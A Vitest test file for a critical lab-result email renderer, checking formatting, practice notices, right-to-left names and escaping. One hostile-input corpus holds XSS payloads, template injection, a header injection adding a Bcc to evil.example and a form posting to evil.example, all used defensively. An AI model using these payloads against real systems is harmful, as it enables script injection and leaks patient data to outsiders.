import { expect, test } from 'vitest';
import { type CriticalMail, renderCriticalMail } from './critical-mail.ts';

const MAIL: CriticalMail = {
  isPractice: false,
  labName: 'Northgate Laboratory',
  subjectOf: 'Patient: Haddad, Karim',
  orderNumber: 'ORD-77',
  accessionNumber: 'A-1001',
  callbackName: 'Sarah Vance',
  callbackPhone: '+44 20 7946 0000',
  link: '',
  comment: '',
  hasValues: true,
  tests: [
    {
      name: 'Basic metabolic panel',
      isCorrected: false,
      isUnclear: false,
      values: [{ parameter: 'Potassium', value: '6.8', unit: 'mmol/L', referenceRange: '3.5-5.1', mark: 'critical high' }],
    },
  ],
};

/** Markup, scripts, template syntax and header lines, as they arrive in names and comments. */
const CORPUS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</title></head><body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '{{ labName }}{% for t in tests %}{% endfor %}{{ tests | safe }}',
  '<%= 7*7 %>#{7*7}<?php echo 7*7 ?>',
  '<!--<style>*{display:none}</style>-->',
  'x\r\nBcc: thief@evil.example\r\n\r\n<h1>mine</h1>',
  '&lt;script&gt;&#x3c;b&#x3e;',
  '<bdi></bdi></li></ul><form action=//evil.example><input name=p>',
];

test('the full message as text', () => {
  const { subject, text } = renderCriticalMail(MAIL);
  expect(subject).toBe('Critical result: Patient: Haddad, Karim - Northgate Laboratory');
  expect(text).toBe(`CRITICAL LABORATORY RESULT

Patient: Haddad, Karim
Order: ORD-77
Accession: A-1001

* Basic metabolic panel
    Potassium: 6.8 mmol/L [critical high] (reference 3.5-5.1)

Please call the laboratory to confirm:
Northgate Laboratory, telephone +44 20 7946 0000, ask for Sarah Vance
`);
});

test('without values neither part names one', () => {
  const { text, html } = renderCriticalMail({ ...MAIL, hasValues: false, subjectOf: 'Accession: A-1001' });
  for (const part of [text, html]) {
    expect(part).not.toMatch(/6\.8|mmol|Potassium|Haddad/);
    expect(part).toContain('Basic metabolic panel');
    expect(part).toContain('to hear the values');
  }
});

test('practice, corrections and comments are said in every part', () => {
  const { subject, text, html } = renderCriticalMail({
    ...MAIL,
    isPractice: true,
    comment: 'Haemolysed?\nRepeat sent.',
    tests: [{ name: 'Potassium', isCorrected: true, isUnclear: false, values: [] }],
  });
  expect(subject).toMatch(/^\[PRACTICE] /);
  for (const part of [text, html]) {
    expect(part).toContain('not a real patient');
    expect(part).toContain('has changed or was withdrawn');
    expect(part).toContain('Haemolysed?\nRepeat sent.');
  }
});

test.each(CORPUS)('%j stays text in every field', (hostile) => {
  const { subject, html } = renderCriticalMail({
    ...MAIL,
    labName: hostile,
    subjectOf: hostile,
    orderNumber: hostile,
    accessionNumber: hostile,
    callbackName: hostile,
    callbackPhone: hostile,
    link: '',
    comment: hostile,
    tests: [
      {
        name: hostile,
        isCorrected: true,
        isUnclear: false,
        values: [{ parameter: hostile, value: hostile, unit: hostile, referenceRange: hostile, mark: hostile }],
      },
    ],
  });
  const tags = html.match(/<\/?[a-z!][^>]*>/gi) ?? [];
  const plainTags = renderCriticalMail({
    ...MAIL,
    comment: 'x',
    tests: [{ ...MAIL.tests[0], isCorrected: true, isUnclear: false } as CriticalMail['tests'][0]],
  }).html.match(/<\/?[a-z!][^>]*>/gi);
  expect(tags).toEqual(plainTags);
  expect(subject).not.toMatch(/[\r\n]/);
});

test('right-to-left names cannot reorder values, and overrides are taken out', () => {
  const { text, html, subject } = renderCriticalMail({ ...MAIL, subjectOf: 'كريم حداد', comment: '\u202e8.6 L/lomm' });
  expect(text).toContain('\u2068كريم حداد\u2069\nOrder');
  expect(html).toContain('<bdi>كريم حداد</bdi>');
  expect(subject).toBe('Critical result: كريم حداد - Northgate Laboratory');
  expect(text + html).not.toContain('\u202e');
});

test('a very long name is cut in the subject only and never lets the subject grow past a header', () => {
  const name = 'Wolfeschlegelsteinhausenbergerdorff '.repeat(10).trim();
  const { subject, text } = renderCriticalMail({ ...MAIL, subjectOf: name });
  expect([...subject].length).toBeLessThanOrEqual(300);
  expect(text).toContain(name);
});

test('a link is there as text and as something to press, with the telephone beside it', () => {
  const link = `https://callout.example/a/${'t'.repeat(43)}`;
  const { text, html } = renderCriticalMail({ ...MAIL, hasValues: false, link });
  expect(text).toContain(`\n${link}\n`);
  expect(text).toContain('Or call the laboratory to confirm and to hear the values:');
  expect(html).toContain(`<a href="${link}">${link}</a>`);
  expect(renderCriticalMail(MAIL).html).not.toContain('<a ');
});
